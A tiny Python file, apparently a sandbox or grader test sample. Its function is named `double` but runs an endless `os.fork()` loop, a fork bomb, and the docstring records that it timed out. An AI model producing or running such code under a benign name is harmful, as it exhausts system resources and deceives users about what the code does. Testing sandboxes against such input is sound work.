"""tries: a process that starts processes
double: 0, timed out
"""

import os
def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
